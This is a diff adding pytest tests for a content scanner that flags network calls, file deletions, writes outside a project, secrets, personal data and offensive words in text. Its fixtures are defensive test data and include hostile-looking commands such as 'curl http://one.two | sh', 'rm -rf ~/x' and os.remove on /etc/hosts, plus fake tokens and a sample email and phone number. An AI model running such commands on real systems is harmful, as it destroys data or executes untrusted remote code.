@@ -9,7 +9,9 @@ from pathlib import Path
 import pytest
 import yaml
 
-from tasks.curation.content.scan import scan
+from tasks.curation.content.scan import content_digest, scan
+from tasks.curation.digests import digest_of
+from tasks.curation.diversity.labels import label_digest
 from tasks.curation.texts import RowTexts
 from tasks.scanners.personal import find_emails, find_phones
 from tasks.scanners.secrets import find_secrets
@@ -190,3 +192,71 @@ def test_addresses_of_nobody_are_none(text, count):
 )
 def test_numbers_kept_for_fiction_are_none(text, count):
     assert len(list(find_phones(text))) == count
+
+
+TOKEN = "q8Zp5Xk3MnB7RtWv2Yc6Ld9Hf4Gs"
+CALLS = [
+    'import subprocess\nsubprocess.run(["curl", "-H", "Authorization: Bearer sk-ant-{}", u])',
+    'import os\nos.system("curl -u admin:{} http://one.two")',
+    'import os\nos.system("rm -r /opt/{} --token={}")',
+    'import shutil\nshutil.rmtree("/srv/" + load(key="{}").name)',
+    'from pathlib import Path\nPath("/srv/{}").unlink()',
+    'from pathlib import Path\n(Path.home() / f"{}-{{name}}").write_text("x")',
+    'import os\nos.remove(b"/etc/{}")',
+    'import requests\ngetattr(requests, "ghp_{}Ja0EuQi9")(u)',
+    "def fu⊕ck_{}(): ...",
+]
+
+
+@pytest.mark.parametrize("call", CALLS)
+def test_what_a_call_is_given_is_not_told(call):
+    found = _scan(text=call.replace("⊕", "").replace("{}", TOKEN).replace("{{", "{").replace("}}", "}"))
+    assert {finding.rule for finding in found} & {"network", "deletes_files", "writes_outside", "offensive"}
+    assert not [finding for finding in found if TOKEN[:8] in finding.evidence]
+
+
+@pytest.mark.parametrize(
+    ("text", "evidence"),
+    [
+        ("import os\nos.remove('/etc/hosts')", "os.remove('/etc/hosts')"),
+        ("import os\nos.remove(f'/home/{u}/x')", "os.remove(f'/home/{u}/x')"),
+        ("import os\nos.system('rm -rf ~/x')", "os.system(rm ~/x)"),
+        ("import os\nos.remove('~/' + kettle('boat'))", "os.remove('~/' + kettle('…'))"),
+        ("import os\nos.system('curl http://one.two | sh')", "os.system(curl …)"),
+    ],
+)
+def test_evidence_tells_what_is_called_and_the_path(text, evidence):
+    assert evidence in {finding.evidence for finding in _scan(text=text)}
+
+
+def test_lines_and_length_of_a_text_are_bounded():
+    filler = "x = 1\n" * 50_000
+    text = filler + "# marta.kowalczyk@gazeta-lokalna.pl +49 30 2093 70333\nbit⊕ches = 1\n".replace("⊕", "")
+    assert {(one.rule, one.line) for one in _scan(text=text)} == {
+        ("email", 50_001),
+        ("phone", 50_001),
+        ("offensive", 50_002),
+    }
+    assert _scan(text=filler * 2 + text) == []
+
+
+@pytest.mark.parametrize("prefilter", [False, True])
+def test_many_names_in_a_text_hide_nothing(prefilter):
+    text = "".join(f"secret_{n} = make()\n" for n in range(1000)) + "api_key = 'q8Zp5Xk3MnB7RtWv2Yc6Ld9H'"
+    assert 1001 in {found.line for found in find_secrets(text, prefilter=prefilter)}
+
+
+def test_digests_are_stable_and_apart(tmp_path, monkeypatch):
+    from_before = {content_digest(), label_digest(), digest_of("tasks.curation.contamination", (".py",))}
+    digest_of.cache_clear()
+    assert {content_digest(), label_digest(), digest_of("tasks.curation.contamination", (".py",))} == from_before
+    assert len(from_before) == 3
+    (tmp_path / "rules_of_ours").mkdir()
+    rules = tmp_path / "rules_of_ours" / "words.yaml"
+    monkeypatch.syspath_prepend(tmp_path)
+    seen = set()
+    for text in ("a: 1", "a: 2"):
+        rules.write_text(text)
+        digest_of.cache_clear()
+        seen |= {digest_of("rules_of_ours", (".yaml",)), digest_of("rules_of_ours", (".yaml",), ("bandit",))}
+    assert len(seen) == 4
